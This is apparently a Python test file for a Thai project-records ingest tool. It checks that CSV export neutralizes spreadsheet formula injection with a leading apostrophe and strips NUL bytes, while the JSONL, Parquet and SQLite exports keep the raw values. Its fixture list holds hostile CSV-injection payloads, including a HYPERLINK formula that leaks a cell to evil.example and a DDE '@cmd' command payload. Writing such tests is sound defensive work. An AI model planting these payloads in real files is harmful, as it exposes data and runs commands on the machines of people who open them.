"""CSV for Excel users: a text cell a spreadsheet would run as a formula is neutralized in CSV
only (OWASP: a leading '), NUL bytes never reach the CSV raw; the other exports keep the raw value."""

from __future__ import annotations

import csv
import json
import sqlite3
from pathlib import Path

import pyarrow.parquet as pq

from saraban.ingest.cli import main
from saraban.ingest.export import csv_cell
from tests.ingest.report_text import Bundle, Row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")',
    "@cmd|'/C calc'!A0",
    "+โครงการบวก",
    "-โครงการลบ",
    "โครงการปกติ",
]


def test_formulas_are_neutralized_in_csv_and_kept_raw_elsewhere(tmp_path):
    bundle = Bundle(rows=[Row(str(i), name=name) for i, name in enumerate(HOSTILE, 1)])
    source = tmp_path / "hostile.txt"
    source.write_text(bundle.text(), encoding="utf-8")
    out = tmp_path / "out"
    assert main(["ingest", str(source), "--out", str(out), "--jobs", "1"]) == 0
    raw = [json.loads(line)["project_name"] for line in (out / "records.jsonl").read_text(encoding="utf-8").splitlines()]
    assert raw == HOSTILE  # read as printed
    assert pq.read_table(out / "records.parquet").column("project_name").to_pylist() == HOSTILE
    with sqlite3.connect(out / "ingest.sqlite") as db:
        assert [r[0] for r in db.execute("SELECT project_name FROM records ORDER BY seq")] == HOSTILE
    data = (out / "records.csv").read_bytes()
    assert b"\x00" not in data
    with (out / "records.csv").open(encoding="utf-8-sig", newline="") as stream:
        records = list(csv.DictReader(stream))
    assert [r["project_name"] for r in records] == [
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")',
        "'@cmd|'/C calc'!A0",
        "'+โครงการบวก",
        "'-โครงการลบ",
        "โครงการปกติ",
    ]
    # Numbers and money are not text cells: left as they are.
    assert [r["seq"] for r in records] == [str(i) for i in range(1, 6)]
    assert all(r["budget_baht"] == json.loads(line)["budget_baht"]
               for r, line in zip(records, (out / "records.jsonl").read_text(encoding="utf-8").splitlines()))


def test_a_nul_byte_never_reaches_the_csv_raw():
    # A text input holding NUL is refused (tests/ingest/test_hostile_inputs.py); a NUL another
    # reader passes on (a PDF's text layer) is written to CSV as U+FFFD.
    assert csv_cell("โครงการ\x00มีศูนย์", True) == "โครงการ\ufffdมีศูนย์"
    assert csv_cell("=\x00", True) == "'=\ufffd"
